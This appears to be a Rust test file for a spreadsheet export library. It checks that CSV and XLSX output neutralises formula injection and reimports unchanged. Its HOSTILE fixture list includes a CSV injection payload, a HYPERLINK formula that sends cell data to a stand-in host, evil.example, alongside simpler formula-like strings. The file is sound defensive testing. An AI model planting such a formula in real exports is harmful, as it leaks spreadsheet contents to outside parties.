//! Exports are safe to open in a spreadsheet (issue #11, finding 8): no CSV cell is evaluated as
//! a formula, XLSX text is stored as strings, and what the platform exports imports back as it was.

use std::io::Cursor;

use calamine::{Data, Reader, Xlsx};
use chengguo_io::{
    map_headers, neutralize_cell, read_table, restore_cell, write_csv, write_xlsx, Cell, Column,
    Format,
};

/// Values a spreadsheet would take for formulas (OWASP CSV injection), and their neighbours.
const HOSTILE: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")",
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\tTAB=1",
    "\r=1",
    " =1",
    "'=1",
    "''@x",
    "=",
    "-",
];

const HARMLESS: &[&str] = &[
    "沈阳新松机器人自动化股份有限公司",
    "-12.50",
    "-5",
    "0",
    "12.50",
    "a=b",
    "'quoted'",
    "O'Brien",
    "",
    "91210100MA0XXXXX1X",
];

#[test]
fn formula_cells_get_an_apostrophe() {
    for s in HOSTILE {
        let n = neutralize_cell(s);
        assert_eq!(n, format!("'{s}"), "{s:?}");
    }
    for s in HARMLESS {
        assert_eq!(neutralize_cell(s), *s, "{s:?}");
    }
}

#[test]
fn restoring_undoes_exactly_what_neutralizing_did() {
    for s in HOSTILE.iter().chain(HARMLESS) {
        assert_eq!(restore_cell(&neutralize_cell(s)), *s, "{s:?}");
    }
    // A cell of another origin that starts with an apostrophe keeps it unless the apostrophe
    // guards a formula.
    assert_eq!(restore_cell("'quoted'"), "'quoted'");
    assert_eq!(restore_cell("'-5"), "'-5");
    assert_eq!(restore_cell("'=1"), "=1");
}

#[test]
fn no_csv_cell_starts_like_a_formula() {
    let rows: Vec<Vec<String>> = HOSTILE
        .iter()
        .chain(HARMLESS)
        .map(|s| vec![s.to_string(), "x".to_string()])
        .collect();
    let bytes = write_csv(&["=名称", "备注"], &rows);
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(&bytes[3..]);
    let mut records = 0;
    for record in reader.records() {
        let record = record.unwrap();
        for cell in record.iter() {
            let first = cell.trim_start_matches(' ').chars().next();
            let evaluated = matches!(first, Some('=' | '+' | '@' | '\t' | '\r'))
                || (first == Some('-') && cell.parse::<f64>().is_err());
            assert!(!evaluated, "{cell:?} would be evaluated");
        }
        records += 1;
    }
    assert_eq!(records, rows.len() + 1);
}

#[test]
fn exported_csv_imports_back_unchanged() {
    let schema = [
        Column {
            key: "name",
            aliases: &["名称"],
            required: true,
        },
        Column {
            key: "note",
            aliases: &[],
            required: false,
        },
    ];
    // Cells as the readers give them back: trimmed (a leading tab or CR is part of the data only
    // behind the apostrophe).
    let values: Vec<&str> = HOSTILE
        .iter()
        .chain(HARMLESS)
        .copied()
        .filter(|s| !s.is_empty() && s.trim() == *s)
        .collect();
    let rows: Vec<Vec<String>> = values
        .iter()
        .map(|s| vec![s.to_string(), "x".to_string()])
        .collect();
    let bytes = write_csv(&["name", "note"], &rows);
    let table = read_table(&bytes, Format::Csv).unwrap();
    let mapped = map_headers(&table, &schema).unwrap();
    let back: Vec<&str> = mapped
        .rows()
        .iter()
        .map(|r| mapped.get(r, "name"))
        .collect();
    assert_eq!(back, values);
    // Tabs and carriage returns at the start survive behind the apostrophe.
    let bytes = write_csv(
        &["name"],
        &[vec!["\t=1".to_string()], vec!["\r@x".to_string()]],
    );
    let table = read_table(&bytes, Format::Csv).unwrap();
    let mapped = map_headers(&table, &schema).unwrap();
    assert_eq!(mapped.get(&table.rows[0], "name"), "\t=1");
    assert_eq!(mapped.get(&table.rows[1], "name"), "\r@x");
}

#[test]
fn xlsx_text_is_a_string_never_a_formula() {
    let rows: Vec<Vec<Cell>> = HOSTILE
        .iter()
        .map(|s| vec![Cell::Text(s.to_string()), Cell::Int(-5)])
        .collect();
    let bytes = write_xlsx("导出", &["=名称", "数"], &rows).unwrap();
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(bytes)).unwrap();
    let formulas = book.worksheet_formula("导出").unwrap();
    assert!(
        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
        "no cell holds a formula: {:?}",
        formulas.used_cells().collect::<Vec<_>>()
    );
    let range = book.worksheet_range("导出").unwrap();
    assert_eq!(range.get((0, 0)), Some(&Data::String("=名称".into())));
    for (i, s) in HOSTILE.iter().enumerate() {
        // rust_xlsxwriter stores a carriage return as `_x000D_`, which calamine 0.26 does not
        // decode; the cell is a string all the same.
        let expected = s.replace('\r', "_x000D_");
        assert_eq!(
            range.get((i + 1, 0)),
            Some(&Data::String(expected)),
            "{s:?}"
        );
        assert_eq!(range.get((i + 1, 1)), Some(&Data::Float(-5.0)));
    }
    // Read back by the importers' own reader, the text is unchanged too.
    let table = read_table(
        &write_xlsx("s", &["name"], &[vec![Cell::Text("=1+1".into())]]).unwrap(),
        Format::Xlsx,
    )
    .unwrap();
    assert_eq!(table.rows[0].cells, ["=1+1"]);
}
